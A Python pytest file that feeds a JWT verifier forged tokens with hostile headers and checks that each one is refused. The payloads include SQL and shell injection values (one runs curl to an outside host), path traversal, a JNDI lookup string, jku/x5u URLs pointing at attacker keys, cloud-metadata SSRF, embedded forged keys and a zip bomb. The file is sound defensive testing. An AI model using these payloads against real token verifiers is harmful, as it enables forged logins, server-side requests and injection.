"""Headers: a `kid` that does something, names that ask the verifier to do something, no object."""

from __future__ import annotations

import json
import zlib
from pathlib import Path
from typing import Any

import pytest

from tests.security.attacks import attack
from tests.security.door import Door
from tests.security.forger import (
    CLAIMS,
    ENCODED_CLAIMS,
    GOOD,
    HEADER,
    KID,
    OLD_KID,
    OLD_SECRET,
    SECRET,
    changed,
    encode,
    headed,
    mac,
    signed,
)

ROOT = Path(__file__).parents[2]
TEXT = json.dumps(HEADER, separators=(",", ":"))
# A key that its holder gives away: what `jwk`, `jku` and the like would have the verifier trust.
FORGED = b"a secret that a forger has made for himself, long enough"
JWK = {"kty": "oct", "kid": KID, "alg": "HS256", "k": encode(FORGED)}


def test_control_the_header_that_these_alter_is_good(door: Door) -> None:
    door.lets_in(GOOD)
    door.lets_in(signed(TEXT.encode()))
    door.lets_in(signed(changed(HEADER, kid=OLD_KID), secret=OLD_SECRET))


@pytest.mark.parametrize(
    ("kid", "secret"),
    [
        attack("kid that walks to /dev/null", "../../../../../../dev/null", b""),
        attack("kid /dev/null", "/dev/null", b""),
        attack("kid file:///dev/null", "file:///dev/null", b""),
        attack("empty kid and empty secret", "", b""),
        attack("kid of a file that always holds 2", "/proc/sys/kernel/randomize_va_space", b"2\n"),
        attack(
            "kid of a file that everybody has", "config.yml", (ROOT / "config.yml").read_bytes()
        ),
        attack("kid of a page of this service", "/live", b'{"status":"live"}'),
        attack("kid that selects 1 in SQL", "x' UNION SELECT '1';--", b"1"),
        attack("kid that is always true in SQL", "' OR '1'='1", b""),
        attack("kid with a wildcard of SQL", "own-%", SECRET),
        attack("kid that drops a table", "x'; DROP TABLE signing_keys;--", b""),
        attack("kid that sleeps in a shell", "|sleep 10", b""),
        attack("kid that fetches in a shell", "$(curl https://example.org)", b""),
        attack("kid with back quotes", f"`echo {KID}`", SECRET),
        attack("kid of a template", "{{7*7}}", b"49"),
        attack("kid of a look-up", "${jndi:ldap://example.org/a}", b""),
        attack("kid of an address", "https://example.org/key.pem", FORGED),
        attack("kid of a search in LDAP", "*)(kid=*", SECRET),
        attack("kid __proto__", "__proto__", b""),
        attack("kid __class__", "__class__", b"str"),
        attack("kid of a pattern", ".*", SECRET),
        attack("kid and a zero byte", f"{KID}\0", SECRET),
        attack("kid, a zero byte and an ending", f"{KID}\0.pem", SECRET),
        attack("kid and a blank", f"{KID} ", SECRET),
        attack("kid and a line feed", f"{KID}\n", SECRET),
        attack("kid in capitals", KID.upper(), SECRET),
        attack("kid with full-width letters", "\uff4fwn-2026", SECRET),
        attack("kid with a Cyrillic letter", "\u043ewn-2026", SECRET),
        attack("kid in a form that Unicode calls equal", "own\u2010-2026", SECRET),
        attack("kid of half a pair", "\ud800", SECRET),
        attack("kid of the other key over my signature", OLD_KID, SECRET),
        attack("kids of both keys", f"{KID},{OLD_KID}", SECRET),
        attack("kid with its secret", f"{KID}:{SECRET.decode()}", SECRET),
        attack("kid of 2,000 characters", "k" * 2000, SECRET),
        attack("kid of 700,000 characters", "k" * 700_000, SECRET),
        attack("kid of a key that this service never had", "own-2024", FORGED),
        attack("kid in a list", [KID], SECRET),
        attack("kid in an object", {"kid": KID}, SECRET),
        attack("kid null", None, b""),
        attack("kid true", True, SECRET),
        attack("kid zero", 0, SECRET),
    ],
)
def test_another_kid(door: Door, kid: Any, secret: bytes) -> None:
    door.refuses(signed(changed(HEADER, kid=kid), secret=secret))


@pytest.mark.parametrize(
    ("extra", "secret"),
    [
        attack("jwk with the forger's key, CVE-2018-0114", {"jwk": JWK}, FORGED),
        attack("jwk with the service's own key", {"jwk": {**JWK, "k": encode(SECRET)}}, SECRET),
        attack("jwks in place of jwk", {"jwks": {"keys": [JWK]}}, FORGED),
        attack("jku to the forger's keys", {"jku": "https://example.org/jwks.json"}, FORGED),
        attack("jku to this host", {"jku": "http://127.0.0.1/jwks.json"}, SECRET),
        attack("jku to the metadata of a cloud", {"jku": "http://169.254.169.254/"}, SECRET),
        attack("jku to a file", {"jku": "file:///dev/null"}, b""),
        attack("x5u to the forger's certificate", {"x5u": "https://example.org/c.pem"}, FORGED),
        attack("x5c with a certificate", {"x5c": ["MIIB"]}, FORGED),
        attack("x5t of a certificate", {"x5t": encode(bytes(20))}, SECRET),
        attack("x5t#S256 of a certificate", {"x5t#S256": encode(bytes(32))}, SECRET),
        attack("crit that names exp", {"crit": ["exp"], "exp": 1}, SECRET),
        attack("crit that names what nobody knows", {"crit": ["urn:example"]}, SECRET),
        attack("crit of an empty list", {"crit": []}, SECRET),
        attack("crit null", {"crit": None}, SECRET),
        attack("b64 true", {"b64": True}, SECRET),
        attack("b64 false and critical", {"b64": False, "crit": ["b64"]}, SECRET),
        attack("zip over a plain payload", {"zip": "DEF"}, SECRET),
        attack("cty that says a token is inside", {"cty": "JWT"}, SECRET),
        attack("enc of an encrypted token", {"enc": "A256GCM"}, SECRET),
        attack("p2c of two thousand million rounds", {"p2c": 2**31 - 1, "p2s": "AAAA"}, SECRET),
        attack("epk of a key agreement", {"epk": {"kty": "EC", "crv": "P-256"}}, SECRET),
        attack("url and nonce of ACME", {"url": "https://example.org", "nonce": "x"}, SECRET),
        attack("claims that stand in the header", {"scope": "admin"}, SECRET),
        attack("a second alg in capitals", {"ALG": "none"}, SECRET),
        attack("a second kid with another first letter", {"Kid": OLD_KID}, SECRET),
        attack("an empty name", {"": ""}, SECRET),
    ],
)
def test_another_name(door: Door, extra: dict[str, Any], secret: bytes) -> None:
    door.refuses(signed(HEADER | extra, secret=secret))


@pytest.mark.parametrize(
    "typ",
    [
        attack(f"typ {name}", typ)
        for name, typ in {
            "at+jwt of an access token": "at+jwt",
            "logout+jwt of a logout": "logout+jwt",
            "dpop+jwt of a proof": "dpop+jwt",
            "secevent+jwt of an event": "secevent+jwt",
            "application/jwt": "application/jwt",
            "in lower case": "jwt",
            "JOSE": "JOSE",
            "JWE": "JWE",
            "and a blank": "JWT ",
            "empty": "",
            "null": None,
            "in a list": ["JWT"],
        }.items()
    ],
)
def test_another_type_of_token(door: Door, typ: Any) -> None:
    door.refuses(headed(typ=typ))


@pytest.mark.parametrize(
    "header",
    [
        *(
            attack(f"{name} is missing", json.dumps({k: v for k, v in HEADER.items() if k != name}))
            for name in HEADER
        ),
        *(attack(f"alg {text}", TEXT.replace('"HS256"', text)) for text in ("256", "true", "null")),
        attack("alg in a list", TEXT.replace('"HS256"', '["HS256"]')),
        attack("alg in an object", TEXT.replace('"HS256"', '{"HS256":1}')),
        attack("alg twice, none first", TEXT.replace("{", '{"alg":"none",', 1)),
        attack("alg twice, none last", TEXT.replace("}", ',"alg":"none"}')),
        attack("alg twice, both right", TEXT.replace("{", '{"alg":"HS256",', 1)),
        attack("alg twice, once in escapes", TEXT.replace("{", '{"\\u0061lg":"none",', 1)),
        attack("kid twice", TEXT.replace("{", f'{{"kid":"{OLD_KID}",', 1)),
        attack("typ twice", TEXT.replace("}", ',"typ":"at+jwt"}')),
        attack("an empty object", "{}"),
        attack("a list", f"[{TEXT}]"),
        attack("a text", json.dumps(TEXT)),
        attack("a number", "1"),
        attack("null", "null"),
        attack("nothing but blanks", "   "),
        attack("a comment in it", TEXT.replace("{", "{/**/")),
        attack("a comma too many", TEXT.replace("}", ",}")),
        attack("single quotes", TEXT.replace('"', "'")),
        attack("two objects", TEXT * 2),
        attack("something behind it", f"{TEXT}x"),
        attack("a zero byte behind it", f"{TEXT}\0"),
        attack("NaN in it", TEXT.replace("{", '{"x":NaN,')),
        attack("1,000 lists in each other", "[" * 1000 + "]" * 1000),
        attack("100,000 lists in each other", "[" * 100_000),
        attack("400 objects in each other", '{"a":' * 400 + "1" + "}" * 400),
        attack("a number of 3,000 digits", TEXT.replace("{", '{"x":' + "9" * 2900 + ",")),
    ],
)
def test_a_header_that_is_not_ours(door: Door, header: str) -> None:
    door.refuses(signed(header.encode()))


@pytest.mark.parametrize(
    "header",
    [
        attack("a byte order mark", b"\xef\xbb\xbf" + TEXT.encode()),
        attack("UTF-16", TEXT.encode("utf-16")),
        attack("UTF-16 without a mark", TEXT.encode("utf-16-le")),
        attack("UTF-32", TEXT.encode("utf-32")),
        attack("Latin-1", TEXT.replace("JWT", "J\u00e9T").encode("latin-1")),
        attack("UTF-8 that is longer than it need be", TEXT.encode().replace(b"J", b"\xc1\x8a")),
        attack("zlib", zlib.compress(TEXT.encode())),
        attack("base64 twice", encode(TEXT.encode()).encode()),
    ],
)
def test_a_header_in_another_encoding(door: Door, header: bytes) -> None:
    door.refuses(signed(header))


@pytest.mark.parametrize(
    ("header", "payload"),
    [
        attack("a compressed payload", {"zip": "DEF"}, zlib.compress(json.dumps(CLAIMS).encode())),
        attack("a bomb of 2 MB in 2 KB", {"zip": "DEF"}, zlib.compress(bytes(2_000_000))),
        attack("a token in a token", {"cty": "JWT"}, GOOD.encode()),
        attack("a token in a token that does not say so", {}, GOOD.encode()),
        attack("a token in quotes in a token", {}, json.dumps(GOOD).encode()),
    ],
)
def test_a_payload_that_is_to_be_unpacked(
    door: Door, header: dict[str, Any], payload: bytes
) -> None:
    door.refuses(signed(HEADER | header, payload))


def test_a_payload_that_is_not_encoded(door: Door) -> None:
    """RFC 7797: with `b64` false the payload stands as it is, and may be detached."""
    head = encode(json.dumps(HEADER | {"b64": False, "crit": ["b64"]}).encode())
    signature = mac(f"{head}.{json.dumps(CLAIMS)}")
    door.refuses(f"{head}..{signature}")
    door.refuses(f"{head}.{ENCODED_CLAIMS}.{signature}")
